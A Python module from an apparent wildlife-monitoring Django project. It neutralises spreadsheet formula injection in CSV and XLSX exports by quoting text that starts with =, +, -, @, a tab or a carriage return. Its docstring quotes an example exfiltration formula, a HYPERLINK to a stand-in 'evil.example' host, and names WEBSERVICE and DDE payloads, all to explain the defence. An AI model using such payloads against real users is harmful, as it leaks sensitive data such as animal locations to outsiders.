"""The one rule that keeps text from becoming a spreadsheet formula (CSV/formula injection).

Why: the files this node writes (live exports, shared-dataset downloads, the comparison of
two versions, the import templates) hold poaching-sensitive data and are opened by
coordinators and invited workshop reviewers in Excel or LibreOffice. A free-text field such
as a record's notes arrives through the API as the ranger typed it and is stored as given;
if it starts with ``=`` (or ``+``, ``-``, ``@``, which spreadsheets also read as the start of
a formula), the program runs it on opening: ``=HYPERLINK("http://evil.example/?"&A2, "x")``
or ``=WEBSERVICE(...)`` sends the neighbouring cells (a tiger's exact place) to someone
else's server, and DDE payloads can start programs.

The rule, after OWASP's "CSV Injection" advice: a *text* cell whose first character is
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a single quote ``'``
in front, so that the spreadsheet shows it as text and the text itself is still all there.
Numbers, dates, booleans and None are not text and stay as they are: ``-12.5`` as a number
is a number (a longitude west of Greenwich), never a formula.

Every CSV and XLSX writer applies it where a row becomes cells (``safe_row``); XLSX writers
also make every text an explicit string cell (``xlsx_row``), so that no text can ever be
stored as a formula, even if a writer forgot the quote. Storage and validation are not
touched: the value is neutralised on the way out only. The Darwin Core Archive and the
Camtrap DP package are data for GBIF and other programs, not spreadsheets, and keep their
values exactly.

This module sits on the ground floor: observations and exchange import it; it imports
nothing from either.
"""

from __future__ import annotations

from collections.abc import Iterable

from django.utils.functional import Promise

#: First characters that make a spreadsheet read a text cell as a formula (OWASP).
DANGEROUS_FIRST = frozenset("=+-@\t\r")
QUOTE = "'"


def is_dangerous(text: str) -> bool:
    """A text a spreadsheet could run as a formula: it starts with one of DANGEROUS_FIRST."""
    return text[:1] in DANGEROUS_FIRST


def safe_cell(value):
    """The value as it may go into a spreadsheet cell: a dangerous text with the quote in
    front, anything else (other texts, numbers, dates, booleans, None) unchanged. A lazy
    translation is text too (made a ``str`` first)."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value[:1] in DANGEROUS_FIRST:
        return QUOTE + value
    return value


def safe_row(values: Iterable) -> list:
    """``safe_cell`` of each value of a row (for csv.writer and friends)."""
    return [safe_cell(value) for value in values]


def xlsx_cell(worksheet, value, *, font=None):
    """An openpyxl cell of ``worksheet`` (write-only or not) for the value, after
    ``safe_cell``: a text is an explicit string cell (``data_type = "s"``), never a formula,
    whatever it starts with. ``font``, if given, is set on the cell."""
    from openpyxl.cell import WriteOnlyCell

    value = safe_cell(value)
    cell = WriteOnlyCell(worksheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    if font is not None:
        cell.font = font
    return cell


def xlsx_row(worksheet, values: Iterable, *, font=None) -> list:
    """A row for ``worksheet.append``: each text an explicit, quoted-if-dangerous string
    cell; the other values (numbers, dates, None) as they are, which openpyxl writes as
    such (and which is cheaper than a cell object each on a million-row sheet)."""
    row = []
    for value in values:
        if font is not None or isinstance(value, str | Promise):
            row.append(xlsx_cell(worksheet, value, font=font))
        else:
            row.append(value)
    return row
